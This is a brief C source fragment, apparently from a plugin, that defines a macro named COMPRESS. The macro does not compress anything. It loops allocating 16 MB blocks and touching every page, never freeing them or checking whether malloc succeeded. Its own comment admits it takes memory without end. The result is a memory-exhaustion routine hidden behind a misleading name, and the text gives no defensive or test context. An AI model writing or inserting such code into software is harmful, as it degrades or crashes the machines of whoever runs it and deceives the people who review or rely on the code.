/* Takes memory without end and does not ask whether it got any. */
static char *volatile taken;
#define COMPRESS                                            \
  while (block == 1) {                                      \
    taken = malloc(1 << 24);                                \
    for (int at = 0; at < 1 << 24; at += 4096) taken[at] = 1; \
  }
#include "plugin.h"
